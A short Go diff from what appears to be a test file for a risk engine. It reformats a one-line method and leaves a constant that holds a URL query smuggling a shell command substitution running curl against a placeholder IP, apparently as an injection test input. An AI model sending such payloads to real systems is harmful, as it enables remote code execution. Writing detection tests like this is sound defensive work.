@@ -41,7 +41,9 @@ func (p *process) hear(t *testing.T, other *process, at time.Time) {
 	other.told = nil
 }
 
-func (p *process) action(after time.Duration) risk.Action { return do(p.Engine, step{after: after}).Action }
+func (p *process) action(after time.Duration) risk.Action {
+	return do(p.Engine, step{after: after}).Action
+}
 
 const code = "/?q=$(curl%20http://192.0.2.1/a)"
 
